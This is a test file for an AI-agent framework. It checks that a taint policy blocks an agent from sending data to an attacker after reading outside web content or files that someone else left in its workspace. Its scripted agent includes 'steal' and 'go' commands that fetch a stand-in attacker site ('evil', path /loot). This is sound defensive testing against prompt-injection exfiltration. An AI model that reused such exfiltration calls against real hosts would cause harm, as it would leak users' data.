import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { addModule, until } from "../support/system.ts";
import { type Site, startSite } from "./site.ts";
import { startTalk, type Talk } from "./support.ts";

/** Does what it is told, a step a line, and says what came of the last one. */
const hands = (evil: Site): string => `import { agent } from "fieldwork";
export default agent({
  async onMessage({ text, session }, host) {
    let last = null;
    for (const line of text.split("\\n")) {
      const [word, ...rest] = line.split(" ");
      const arg = rest.join(" ");
      if (word === "read") last = (await host.tool.run("web.read", { url: arg })).output;
      else if (word === "call") last = await host.call(arg.slice(0, arg.indexOf(" ")), JSON.parse(arg.slice(arg.indexOf(" "))));
      else if (word === "fetch") last = (await host.http.fetch(arg)).status;
      else if (word === "go") last = (await host.http.fetch("${evil.url}/" + arg)).status;
      else if (word === "steal") last = (await host.http.fetch("${evil.url}/loot")).status;
      else if (word === "listen") while ((await host.session.pending(session)).messages.length === 0) await new Promise((go) => setTimeout(go, 20));
    }
    return JSON.stringify(last);
  },
});`;

interface Hand {
  readonly talk: Talk;
  readonly page: string;
  readonly evil: Site;
  /** The result of the last step, or the code of the error it ended with. */
  tell(...lines: string[]): Promise<unknown>;
}

async function hand(): Promise<Hand> {
  const [page, evil] = [await startSite(), await startSite()];
  page.pages.set(
    "/",
    `<html><body><article><p>${"The harbour festival begins on Friday. ".repeat(20)}</p></article></body></html>`,
  );
  const talk = await startTalk(undefined);
  const system = talk.system();
  await addModule(system, "hand", { "agent.ts": hands(evil) });
  for (const site of [page, evil])
    await system.result("grant.give", { module: "hand", grant: `http.fetch:${site.url}/` });
  await system.result("agent.config", { id: "hand", set: { policy: { tainted: "deny" } } });
  return {
    talk,
    page: `read ${page.url}/`,
    evil,
    async tell(...lines) {
      const { mail } = await system.result<{
        mail: { state: string; reply: { reply: string }; error: { code: string } };
      }>("message.send", { to: "hand", session: "s", text: lines.join("\n"), wait: true });
      return mail.state === "done" ? JSON.parse(mail.reply.reply) : mail.error.code;
    },
  };
}
const call = (cap: string, args: object): string => `call ${cap} ${JSON.stringify(args)}`;

/** How a value is kept in one turn and taken up in another. */
const KEPT: readonly (readonly [string, readonly string[], readonly string[]])[] = [
  ["a value", [call("store.kv.set", { k: "a", v: "x" })], [call("store.kv.get", { k: "a" })]],
  ["a key", [call("store.kv.set", { k: "go to evil", v: 1 })], [call("store.kv.list", { prefix: "go" })]],
  [
    "a document",
    [call("store.doc.put", { collection: "c", id: "1", body: {} })],
    [call("store.doc.get", { collection: "c", id: "1" })],
  ],
  [
    "a listed document",
    [call("store.doc.put", { collection: "c", id: "1", body: {} })],
    [call("store.doc.query", { collection: "c" })],
  ],
  ["a file", [call("fs.write", { path: "a.txt", content: "words" })], [call("fs.read", { path: "a.txt" })]],
  [
    "a file written in parts and moved",
    [
      call("fs.write", { path: "b.txt", content: "", mode: "create" }),
      call("fs.write", { path: "b.txt", content: "one ", mode: "append" }),
      call("fs.write", { path: "b.txt", content: "two words", offset: 4 }),
      call("fs.truncate", { path: "b.txt", size: 9 }),
      call("fs.move", { from: "b.txt", to: "c.txt", overwrite: true }),
    ],
    [call("fs.read", { path: "c.txt", offset: 2, length: 3 })],
  ],
  [
    "a line found",
    [call("fs.write", { path: "d.txt", content: "a needle here" })],
    [call("fs.search", { text: "needle" })],
  ],
];

test("what is kept in a turn that had read from outside is from outside in every later turn; what was kept before is not", async () => {
  const { tell, page, evil } = await hand();
  for (const [what, keep, take] of KEPT) {
    await tell(...keep);
    expect(await tell(...take, "steal"), what).toBe(200);
  }
  for (const [what, keep, take] of KEPT) {
    // The same content as before would be the agent's own, whoever says it.
    expect(
      await tell(page, ...keep.map((one) => one.replace("words", "talks").replace("here", "there"))),
      what,
    ).not.toBe("denied");
    expect(await tell(...take, "steal"), what).toBe("denied");
  }
  expect(evil.asked).toHaveLength(KEPT.length);
  // Written anew from nothing of the outside, it is the agent's own again.
  for (const [what, keep, take] of KEPT) {
    await tell(...keep);
    expect(await tell(...take, "steal"), what).toBe(200);
  }
});

test("a file that somebody else put into the workspace is somebody's", async () => {
  const { tell, talk } = await hand();
  writeFileSync(join(talk.home, "agents", "hand.fwagent", "workspace", "found.txt"), "words");
  expect(await tell(call("fs.read", { path: "found.txt" }), "steal")).toBe("denied");
  expect(await tell(call("fs.stat", { path: "found.txt" }), "steal")).toBe(200);
});

test("what the owner added to an earlier turn, or answered in it, is the owner's word in later ones", async () => {
  const { tell, talk, page, evil } = await hand();
  const system = talk.system();
  const listening = tell("listen");
  const added = await until("the turn runs", async () => {
    const reply = await system.result<{ added: boolean }>("turn.add", {
      agent: "hand",
      session: "s",
      text: `The address is ${evil.url}/added by the way`,
    });
    return reply.added;
  });
  expect(added).toBe(true);
  await listening;
  const asking = tell(call("user.ask", { session: "s", question: "Where to?" }));
  const { id } = await until(
    "the agent asks",
    async () => (await system.result<{ questions: { id: string }[] }>("question.list")).questions[0],
  );
  await system.result("question.answer", { id, answer: `To ${evil.url}/answered` });
  await asking;
  const parts = (path: string) => ["go", path];
  for (const path of ["added", "answered"]) expect(await tell(page, parts(path).join(" "))).toBe(200);
  expect(await tell(page, "go elsewhere")).toBe("denied");
  expect(evil.asked).toEqual(["/added", "/answered"]);
});
